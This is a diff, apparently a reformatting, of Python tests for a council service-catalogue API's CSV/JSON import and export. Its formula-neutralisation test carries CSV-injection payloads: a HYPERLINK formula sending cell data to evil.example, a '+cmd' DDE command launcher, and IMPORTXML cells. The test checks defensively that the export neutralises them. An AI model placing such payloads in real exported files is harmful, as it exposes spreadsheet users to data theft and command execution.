@@ -23,8 +23,9 @@ Report dog fouling,Dog mess,dogs,Environment,not-a-number,,http://insecure.examp
 
 
 def test_csv_import_then_export(client: TestClient) -> None:
-    r = client.post("/api/v1/services/import", content=CSV.encode(),
-                    headers={"Content-Type": "text/csv"})
+    r = client.post(
+        "/api/v1/services/import", content=CSV.encode(), headers={"Content-Type": "text/csv"}
+    )
     assert r.status_code == 201, r.text
     imported = {s["name"]: s for s in r.json()}
     assert imported["Report graffiti"]["keywords"] == ["graffiti", "vandalism"]
@@ -34,25 +35,34 @@ def test_csv_import_then_export(client: TestClient) -> None:
     assert {s["status"] for s in r.json()} == {"draft"}
 
     exported = client.get("/api/v1/services/export", params={"format": "csv"})
-    assert exported.status_code == 200 and exported.headers["content-type"].startswith(
-        "text/csv")
+    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(exported.text)))
     assert [row["name"] for row in rows] == ["Report a street light fault", "Report graffiti"]
     assert rows[1]["keywords"] == "graffiti;vandalism"
     as_json = client.get("/api/v1/services/export").json()
     assert len(as_json) == 2
     # A round trip: the export (renamed) imports again.
-    again = [{k: v for k, v in s.items() if k in (
-        "name", "description", "keywords", "groups", "lgsl_codes", "attributes")}
-        | {"name": s["name"] + " (copy)"} for s in as_json]
-    r = client.post("/api/v1/services/import", content=json.dumps(again),
-                    headers={"Content-Type": "application/json"})
+    again = [
+        {
+            k: v
+            for k, v in s.items()
+            if k in ("name", "description", "keywords", "groups", "lgsl_codes", "attributes")
+        }
+        | {"name": s["name"] + " (copy)"}
+        for s in as_json
+    ]
+    r = client.post(
+        "/api/v1/services/import",
+        content=json.dumps(again),
+        headers={"Content-Type": "application/json"},
+    )
     assert r.status_code == 201, r.text
 
 
 def test_a_csv_with_bad_rows_imports_nothing_and_names_them(client: TestClient) -> None:
-    r = client.post("/api/v1/services/import", content=BAD_CSV.encode(),
-                    headers={"Content-Type": "text/csv"})
+    r = client.post(
+        "/api/v1/services/import", content=BAD_CSV.encode(), headers={"Content-Type": "text/csv"}
+    )
     assert r.status_code == 422, r.text
     assert r.headers["content-type"] == PROBLEM_JSON
     body = r.json()
@@ -68,7 +78,9 @@ def test_duplicates_and_malformed_files_import_nothing(client: TestClient) -> No
     r = client.post("/api/v1/services/import", json=dup)
     assert r.status_code == 422, r.text
     assert {(e["row"], e["field"]) for e in r.json()["errors"]} == {
-        (2, "slug"), (2, "service_code")}
+        (2, "slug"),
+        (2, "service_code"),
+    }
     for content, content_type, status in (
         (b"nonsense,columns\n1,2\n", "text/csv", 422),
         (b'"unterminated\n', "text/csv", 422),
@@ -76,26 +88,34 @@ def test_duplicates_and_malformed_files_import_nothing(client: TestClient) -> No
         (b"{}", "application/json", 422),
         (b"name\nx\n", "text/plain", 415),
     ):
-        r = client.post("/api/v1/services/import", content=content,
-                        headers={"Content-Type": content_type})
+        r = client.post(
+            "/api/v1/services/import", content=content, headers={"Content-Type": content_type}
+        )
         assert r.status_code == status, (content, r.text)
         assert r.headers["content-type"] == PROBLEM_JSON
     assert client.get("/api/v1/services/export").json() == []
 
 
 FORMULAS = {
-    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "slug": "formula-test",
-    "service_code": "-23", "description": "\t=1+1 starts with a tab",
-    "keywords": ["@SUM(A1:A9)", "fine"], "groups": ["+cmd|' /C calc'!A0"],
-    "department": "'=already quoted", "eligibility": "=IMPORTXML(A1)", "fees": "'plain'",
-    "audience": ["-1"], "opening_hours": "\r=2+2",
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "slug": "formula-test",
+    "service_code": "-23",
+    "description": "\t=1+1 starts with a tab",
+    "keywords": ["@SUM(A1:A9)", "fine"],
+    "groups": ["+cmd|' /C calc'!A0"],
+    "department": "'=already quoted",
+    "eligibility": "=IMPORTXML(A1)",
+    "fees": "'plain'",
+    "audience": ["-1"],
+    "opening_hours": "\r=2+2",
     "channels": {"phone": "+44 1908 252570", "venue": "@venue", "sms": "-0 7700 900123"},
 }
 FORMULA_START = set("=+-@\t\r\0")
 
 
 def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_values(
-        client: TestClient) -> None:
+    client: TestClient,
+) -> None:
     """OWASP CSV injection: no exported cell starts a spreadsheet formula (it has a single
     quote in front); importing the export restores every original value."""
     created = client.post("/api/v1/services", json=FORMULAS)
@@ -107,15 +127,26 @@ def test_csv_export_neutralises_formulas_and_imports_back_to_the_same_values(
     assert row["name"] == "'" + FORMULAS["name"] and row["department"] == "''=already quoted"
     assert row["fees"] == "'plain'" and row["phone"] == "'+44 1908 252570"
 
-    copy = exported.replace('"formula-test"', '"formula-copy"').replace(
-        "\"'-23\"", "\"'-23-copy\"")
-    imported = client.post("/api/v1/services/import", content=copy.encode(),
-                           headers={"Content-Type": "text/csv"})
+    copy = exported.replace('"formula-test"', '"formula-copy"').replace('"\'-23"', '"\'-23-copy"')
+    imported = client.post(
+        "/api/v1/services/import", content=copy.encode(), headers={"Content-Type": "text/csv"}
+    )
     assert imported.status_code == 201, imported.text
     [again] = imported.json()
     assert again["service_code"] == "-23-copy" and again["slug"] == "formula-copy"
     original = created.json()
-    for field in ("name", "description", "keywords", "groups", "department", "eligibility",
-                  "fees", "audience", "opening_hours", "channels", "lgsl_codes",
-                  "attributes"):
+    for field in (
+        "name",
+        "description",
+        "keywords",
+        "groups",
+        "department",
+        "eligibility",
+        "fees",
+        "audience",
+        "opening_hours",
+        "channels",
+        "lgsl_codes",
+        "attributes",
+    ):
         assert again[field] == original[field], field
